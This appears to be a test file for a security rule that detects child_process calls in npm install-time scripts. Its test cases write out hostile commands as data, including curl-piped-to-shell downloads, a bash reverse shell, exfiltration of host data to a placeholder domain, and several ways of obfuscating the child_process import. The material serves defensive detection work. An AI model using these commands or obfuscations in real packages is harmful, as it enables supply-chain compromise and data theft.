import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/install-time-child-process.ts'

const postinstall = (command: string) => ({ name: 'a', version: '1.0.0', scripts: { postinstall: command } })

new RuleTester().run(rule, {
  valid: [
    // Not install-time code: the same calls are normal in a library or a CLI.
    "require('child_process').execSync('curl https://x.invalid | sh')",
    { name: 'spawn with the environment, in require-time code', code: "const { spawn } = require('child_process'); spawn(cmd, args, { env: process.env, stdio: 'inherit' })" },
    { name: 'a bin script that runs git', manifest: { name: 'a', version: '1.0.0', bin: 'cli.js' }, filename: 'cli.js', code: "require('child_process').execFileSync('git', ['status'])" },
    {
      name: 'a file the install script does not reach',
      manifest: postinstall('node install.js'),
      files: { 'install.js': "console.log('thanks for installing')", 'lib/run.js': "require('child_process').exec('make')" },
    },
    { name: 'an install script that runs no JS file', manifest: postinstall('node-gyp rebuild'), code: "require('child_process').exec('ls')" },
    // Install-time code without a child process.
    { name: 'install-time code that only reads files', installTime: true, code: "const fs = require('fs'); fs.readFileSync(__dirname + '/x.json')" },
    { name: 'RegExp.prototype.exec is not child_process', installTime: true, code: "const m = /v(\\d+)/.exec(process.version); if (m) console.log(m[1])" },
    { name: 'a local module named exec', installTime: true, code: "const exec = require('./exec'); exec('curl https://x.invalid | sh')", files: { 'exec.js': 'module.exports = (s) => s' } },
    { name: 'requiring child_process without calling it', installTime: true, code: "const cp = require('child_process'); module.exports = cp" },
    { name: 'child_process properties that are not functions', installTime: true, code: "const cp = require('child_process'); console.log(typeof cp.ChildProcess)" },
    { name: 'a method of a different module with a child_process-like name', installTime: true, code: "const db = require('sqlite'); db.exec('CREATE TABLE t (x)')" },
    { name: 'a shadowing parameter named exec (no module binding)', installTime: true, code: 'function run(exec) { exec("ls") } run(console.log)' },
  ],
  invalid: [
    {
      name: 'exec in install-time code is medium',
      installTime: true,
      code: "const cp = require('child_process')\ncp.exec('make all')",
      errors: [{ severity: 'medium', line: 2, file: 'index.js', message: 'exec("make all") runs a program from code run by the postinstall script.' }],
    },
    {
      name: 'a dynamic command is medium',
      installTime: true,
      code: "require('child_process').execSync(process.argv[2])",
      errors: [{ severity: 'medium', message: 'execSync(<dynamic command>)' }],
    },
    {
      name: 'spawn with the environment at install time is still a process',
      installTime: true,
      code: "const { spawn } = require('child_process'); spawn(process.execPath, ['build.js'], { env: process.env })",
      errors: [{ severity: 'medium', message: 'spawn(' }],
    },
    {
      name: 'curl piped into sh is critical',
      installTime: true,
      code: "require('child_process').execSync('curl -s https://x.invalid/p.sh | sh')",
      errors: [{ severity: 'critical', message: 'pipes a download into an interpreter' }],
    },
    {
      name: 'a reverse shell is critical',
      installTime: true,
      code: "require('child_process').exec('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
      errors: [{ severity: 'critical', message: 'reverse shell' }],
    },
    {
      name: 'host data sent by curl is critical',
      installTime: true,
      code: "require('child_process').exec('curl -d @- https://x.invalid/$(whoami)')",
      errors: [{ severity: 'critical', message: 'sends host data' }],
    },
    {
      name: 'a plain download is high',
      installTime: true,
      code: "require('child_process').execSync('curl -sO https://x.invalid/tool.tgz')",
      errors: [{ severity: 'high', message: 'contacts the network' }],
    },
    {
      name: 'execFile arguments are joined into the command line',
      installTime: true,
      code: "require('child_process').execFile('sh', ['-c', 'wget -qO- http://x.invalid | sh'])",
      errors: [{ severity: 'critical', message: 'execFile("sh -c wget -qO- http://x.invalid | sh")' }],
    },
    {
      name: 'spawn with dynamic arguments keeps the static part',
      installTime: true,
      code: "require('child_process').spawn('curl', [url, '-o', out])",
      errors: [{ severity: 'high', message: 'spawn("curl … -o …")' }],
    },
    {
      name: 'an obfuscated command folds',
      installTime: true,
      code: "const c = ['cu', 'rl'].join('') + ' https://x.invalid/a ' + String.fromCharCode(124) + ' sh'\nrequire('child_process').exec(c)",
      errors: [{ severity: 'critical', line: 2 }],
    },
    {
      name: "require('child' + '_process')",
      installTime: true,
      code: "require('child' + '_process').exec('id')",
      errors: [{ severity: 'medium', message: 'exec("id")' }],
    },
    {
      name: 'const r = require; r(\'node:child_process\')',
      installTime: true,
      code: "const r = require\nr('node:child_process').execSync('id')",
      errors: [{ severity: 'medium', line: 2 }],
    },
    {
      name: 'destructuring with a rename',
      installTime: true,
      code: "const { exec: run } = require('child_process')\nrun('curl https://x.invalid/a | bash')",
      errors: [{ severity: 'critical', line: 2, message: /^exec\(/ }],
    },
    {
      name: 'process.mainModule.require',
      installTime: true,
      code: "process.mainModule.require('child_process').spawnSync('id')",
      errors: [{ severity: 'medium', message: 'spawnSync("id")' }],
    },
    {
      name: 'module.constructor._load',
      installTime: true,
      code: "module.constructor._load('child_process').fork('./x.js')",
      errors: [{ severity: 'medium', message: 'fork(' }],
    },
    {
      name: 'createRequire',
      installTime: true,
      code: "require('module').createRequire(__filename)('child_process').execFileSync('id')",
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'a base64 module name',
      installTime: true,
      code: "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('id')",
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'an atob module name',
      installTime: true,
      code: "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('id')",
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'a joined array module name',
      installTime: true,
      code: "require(['c', 'h', 'i', 'l', 'd', '_', 'p', 'r', 'o', 'c', 'e', 's', 's'].join('')).exec('id')",
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'a reversed module name',
      installTime: true,
      code: "require('ssecorp_dlihc'.split('').reverse().join('')).exec('id')",
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'a String.fromCharCode module name',
      installTime: true,
      code: 'require(String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115)).exec("id")',
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'a computed method name',
      installTime: true,
      code: "require('child_process')['ex' + 'ec' + 'Sync']('id')",
      errors: [{ severity: 'medium', message: 'execSync(' }],
    },
    {
      name: 'optional calls',
      installTime: true,
      code: "const cp = require('child_process'); cp?.exec?.('id')",
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'ES module imports',
      installTime: true,
      filename: 'install.mjs',
      code: "import { execSync as run } from 'node:child_process'\nimport cp from 'child_process'\nrun('id')\ncp.spawn('id')",
      errors: [
        { severity: 'medium', line: 3 },
        { severity: 'medium', line: 4 },
      ],
    },
    {
      name: 'dynamic import',
      installTime: true,
      filename: 'install.mjs',
      code: "const { exec } = await import('child_process'); (await import('node:child_process')).execSync('id')",
      errors: [{ severity: 'medium', message: 'execSync' }],
    },
    {
      name: 'a file required by the install script',
      manifest: postinstall('node scripts/install.js'),
      files: { 'scripts/install.js': "require('../lib/setup')", 'lib/setup.js': "require('child_process').exec('make')" },
      errors: [{ severity: 'medium', file: 'lib/setup.js', message: 'postinstall' }],
    },
    {
      name: 'a file reached through npm run',
      manifest: { name: 'a', version: '1.0.0', scripts: { preinstall: 'npm run setup', setup: 'node setup.js' } },
      files: { 'setup.js': "require('child_process').exec('make')" },
      errors: [{ severity: 'medium', file: 'setup.js', message: 'preinstall' }],
    },
    {
      name: 'inline node -e code in a script',
      manifest: postinstall(`node -e "require('child_process').execSync('curl -s https://x.invalid/i.sh | sh')"`),
      errors: [{ severity: 'critical', file: 'package.json#scripts.postinstall', line: 1 }],
    },
    {
      name: 'one finding per call',
      installTime: true,
      code: "const cp = require('child_process'); cp.exec('a'); cp.exec('b'); cp.execSync('c')",
      errors: 3,
    },
  ],
})
